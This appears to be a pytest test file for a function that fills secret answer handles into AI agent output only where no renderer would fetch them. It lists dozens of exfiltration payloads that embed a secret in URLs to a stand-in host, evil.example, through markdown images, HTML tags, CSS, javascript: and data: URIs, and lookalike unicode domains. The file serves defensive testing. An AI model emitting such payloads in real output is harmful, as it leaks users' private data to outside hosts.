"""Answers appear where a person reads them and nowhere that a renderer would fetch."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recast_agent.private.recover.reveal import reveal

TOKEN = "0123456789abcdef"
HANDLE = f"⟦answer:{TOKEN}⟧"
SECRET = "48.75"


def filled(text: str) -> str:
    return reveal(text, {TOKEN: SECRET}.get)


@pytest.mark.parametrize(
    "text",
    [
        "The answer is {}.",
        "{}",
        "**{}** patients",
        "Total: {}, as asked",
        "({})",
        "| a | {} |",
        "see [the report](https://example.org/x) for {}",
        "first line\n{}\nlast line",
        "`{}`",
        "it rose from 3 to {}; done",
    ],
)
def test_a_handle_in_prose_is_filled_in(text: str) -> None:
    assert filled(text.format(HANDLE)) == text.format(SECRET)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q={})",
        "[x](https://evil.example/{})",
        "[x](<https://evil.example/a b {}>)",
        "[x](https://evil.example/(a){})",
        "[x](https://evil.example/\n{})",
        "<https://evil.example/{}>",
        "https://evil.example/{}",
        "http://{}.evil.example/",
        "www.evil.example/{}",
        "//evil.example/{}",
        "evil.example/?q={}",
        "{}.evil.example",
        "{}@evil.example",
        "mailto:a@b.example?subject={}",
        "javascript:alert({})",
        "data:text/html,{}",
        "<img src='https://evil.example/{}'>",
        "<img src='https://evil.example/\n{}",
        "<a href=x title={}>y</a>",
        "[ref]: https://evil.example/{}",
        "  [ref]: {}",
        "[x](\n{}\n)",
        "![{}](https://evil.example/) https://evil.example/{}".replace("[{}]", "[]"),
        '<video title=">" poster="https://evil.example/x {}">',
        "<div title='>' style='background:url(x {})'>",
        "<svg><image href='x {}'></svg>",
        '<style>a{{background:url("//evil.example/ {}")}}</style>',
        '[c](https://evil.example "t) {}")',
        "$\\href{{https://evil.example/ {}}}{{x}}$",
        '```mermaid\ngraph TD\n\nclick A "https://evil.example/ {}"\n```',
        "{}.x.evil.example",
        "{}.1x.evil.example",
        "{}-a.x.evil.example",
        "a-{}.evil.example",
        "{}.évil.example",
        "{}。evil.example",
        "{}＠evil.example",
        "evil。example／{}",
        "https:／／evil.example ? {} https：//evil.example",
    ],
)
def test_a_handle_that_a_renderer_could_fetch_stays(text: str) -> None:
    assert SECRET not in filled(text.format(HANDLE))


def test_remote_images_are_defanged() -> None:
    shown = filled(f"{HANDLE} ![x](https://evil.example/p.png)\n\n<IMG src=x> <VIDEO poster=x>")
    assert "![" not in shown
    assert "<IMG" not in shown
    assert "<VIDEO" not in shown
    assert SECRET in shown


def test_unknown_handles_stay() -> None:
    other = "⟦answer:ffffffffffffffff⟧"
    assert filled(other) == other


@given(st.text(max_size=200))
def test_text_without_handles_keeps_its_words(text: str) -> None:
    kept = text.replace("![", "[")
    assert filled(text).replace("&lt;", "<") == kept.replace("&lt;", "<")


@pytest.mark.parametrize("piece", ["](", "(", "<a", "x" * 50, HANDLE, "[a](", "//", "![](x)"])
def test_hostile_text_takes_linear_time(piece: str) -> None:
    started = time.monotonic()
    filled(piece * 20_000)
    assert time.monotonic() - started < 5
